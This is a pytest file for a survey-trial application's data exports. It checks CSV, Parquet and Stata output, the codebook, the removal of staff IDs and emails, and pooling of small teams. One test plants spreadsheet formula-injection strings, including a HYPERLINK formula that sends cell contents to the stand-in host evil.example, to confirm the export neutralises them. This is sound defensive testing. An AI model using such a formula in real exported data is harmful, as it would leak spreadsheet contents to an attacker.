"""Exports: long and wide, CSV, Parquet and Stata, with a codebook; study codes only."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from hearten.surveys.exports import wide_name
from hearten.surveys.models import Invitation
from hearten.surveys.services import get_wave, invite, record_consent, save_page
from hearten.trials.models import AuditEvent, IdentityKey

#: The clock the services are given (a fixed one: nothing here depends on the day).
NOW = datetime(2026, 3, 2, 9, tzinfo=UTC)

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered(trial: Any) -> Any:
    invite(get_wave(trial, "baseline"), NOW)
    for n, inv in enumerate(Invitation.objects.filter(wave__trial=trial).order_by("id")[:3]):
        record_consent(inv, True, now=NOW)
        save_page(inv, "swemwbs", {f"swemwbs_{i}": 2 + n for i in range(1, 8)}, now=NOW)
    return trial


@pytest.mark.parametrize("fmt", ["csv", "parquet", "dta"])
def test_long_wide_and_codebook_in_every_format(
    hearten: Callable[..., Any], answered: Any, tmp_path: Path, fmt: str
) -> None:
    r = hearten("trial", "export", answered.slug, "--format", fmt, "--out", str(tmp_path))
    assert r.code == 0, r.err
    read = {"csv": pd.read_csv, "parquet": pd.read_parquet, "dta": pd.read_stata}[fmt]
    long = read(tmp_path / f"responses_long.{fmt}")
    wide = read(tmp_path / f"responses_wide.{fmt}")
    book = pd.read_csv(tmp_path / "codebook.csv")
    assert len(long) == 3 * (7 + 2)  # seven items and two scores each
    assert set(long["kind"]) == {"item", "score"}
    assert len(wide) == 40  # everyone invited, answered or not
    first = wide.set_index("pseudonym").dropna(subset=["baseline_swemwbs_metric"])
    assert sorted(first["baseline_swemwbs_raw"]) == [14.0, 21.0, 28.0]
    assert sorted(first["baseline_complete"]) == [1.0, 1.0, 1.0]
    row = book.set_index("variable").loc["baseline_swemwbs_1"]
    assert row["label"] == "baseline: I’ve been feeling optimistic about the future"
    assert row["values"].startswith("1=None of the time; 2=Rarely")
    assert "NHS Health Scotland" in row["licence"]
    everything = " ".join(map(str, [*long.to_numpy().ravel(), *wide.to_numpy().ravel()]))
    for key in IdentityKey.objects.all():
        assert key.staff_id not in everything
        assert key.email not in everything
    assert AuditEvent.objects.filter(action="exported").count() == 1


def test_long_names_fit_stata() -> None:
    assert wide_name("follow-up", 1, "swemwbs_1") == "follow_up_swemwbs_1"
    assert wide_name("follow-up", 1, "hse_indicator_manager_support") == (
        "w1_hse_indicator_manager_support"
    )
    long = wide_name("six-month-follow-up", 12, "hse_indicator_manager_support_extra")
    assert len(long) == 32


def test_an_unknown_format_is_refused(hearten: Callable[..., Any], answered: Any) -> None:
    r = hearten("trial", "export", answered.slug, "--format", "xlsx")
    assert r.code == 2
    assert "unknown export format 'xlsx'" in r.err


def test_roster_text_a_spreadsheet_would_run_is_exported_as_text(
    hearten: Callable[..., Any], answered: Any, tmp_path: Path
) -> None:
    from hearten.trials.models import Site, Team

    Site.objects.filter(trial=answered, code="Dudley").update(
        code='=HYPERLINK("http://evil.example/?x="&A1,"click")'
    )
    Team.objects.filter(trial=answered, code="DU-1").update(code="+T05@SUM(1+1)")
    Team.objects.filter(trial=answered, code="DU-2").update(code="\tDU-2")
    r = hearten("trial", "export", answered.slug, "--out", str(tmp_path))
    assert r.code == 0, r.err
    for name in ("responses_long", "responses_wide"):
        table = pd.read_csv(tmp_path / f"{name}.csv", dtype=str, keep_default_na=False)
        texts = [*table["site"], *table["team"]]
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))], name
    # The wide file has everyone invited (the long one only those who answered, whose sites
    # depend on the database's order), so every site and team is in it.
    wide = pd.read_csv(tmp_path / "responses_wide.csv", dtype=str, keep_default_na=False)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in set(wide["site"])
    assert {"'+T05@SUM(1+1)", "'\tDU-2", "DU-3"} <= set(wide["team"])
    book = pd.read_csv(tmp_path / "codebook.csv").set_index("variable")
    assert "apostrophe" in book.loc["site", "notes"]


def test_only_text_that_would_run_is_changed() -> None:
    from hearten.spreadsheet import neutral, neutral_frame

    assert neutral("-3") == "-3"  # a plain number is not a formula
    assert neutral("-2+3") == "'-2+3"
    assert neutral("@SUM(A1)") == "'@SUM(A1)"
    assert neutral("\rx") == "'\rx"
    assert neutral("Dudley") == "Dudley"
    assert neutral(-3) == -3
    frame = neutral_frame(pd.DataFrame({"a": ["=1", "b"], "n": [-1.0, 2.0]}))
    assert frame["a"].tolist() == ["'=1", "b"]
    assert frame["n"].tolist() == [-1.0, 2.0]


def test_teams_smaller_than_the_trials_minimum_are_pooled_in_the_exports(answered: Any) -> None:
    """Issue 28, item 2: exports an evaluator can hand on follow the release rules; teams of
    five are below a minimum of six, so each site's teams are pooled."""
    import copy

    from hearten.surveys.exports import build_exports

    tables = build_exports(answered)
    teams = set(answered.teams.values_list("code", flat=True))
    assert set(tables["responses_wide"]["team"]) == teams  # five each: kept at the default 5
    design = copy.deepcopy(answered.design)
    design["monitoring"] = {"min_group": 6}
    answered.design = design
    answered.save()
    tables = build_exports(answered)
    wide, long = tables["responses_wide"], tables["responses_long"]
    assert set(wide["team"]) == {f"{site}-pooled" for site in set(wide["site"])}
    assert set(long["team"]) <= set(wide["team"])
    book = tables["codebook"].set_index("variable")
    assert "teams of fewer than 6 people in the export pooled" in book.loc["team", "label"]
